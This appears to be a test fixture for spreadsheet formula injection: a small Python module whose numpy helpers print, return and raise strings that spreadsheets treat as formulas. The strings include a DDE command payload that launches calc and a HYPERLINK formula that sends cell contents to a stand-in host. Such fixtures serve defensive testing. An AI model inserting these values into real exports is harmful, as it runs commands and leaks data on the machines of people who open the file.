"""Prints, raises and returns what a spreadsheet takes for a formula.

Stopped by: a student's text is never the beginning of a cell; formats that have cells mark it as text.
"""

import numpy as np

print("=cmd|' /C calc'!A0\n+1+1\n-1+1\n@SUM(A1)\n\t=1\n\r=1\n,=1\n;=1\n\"=1")


def smooth(signal, width):
    if width < 1:
        raise ValueError(width)
    signal = np.asarray(signal, float)
    return np.array([signal[max(0, t - width + 1) : t + 1].sum() / width for t in range(len(signal))])


def same_padding(field):
    if field < 1 or field % 2 == 0:
        raise ValueError(field)
    return (field - 1) // 2


def flip(kernel):
    if kernel.ndim > 1:
        return "=HYPERLINK(\"http://192.0.2.1/?leak=\"&A1,\"click\")"
    raise ValueError("=cmd|' /C calc'!A0\n+1+1\n-1+1\n@SUM(1+1)*cmd|' /C calc'!A0")
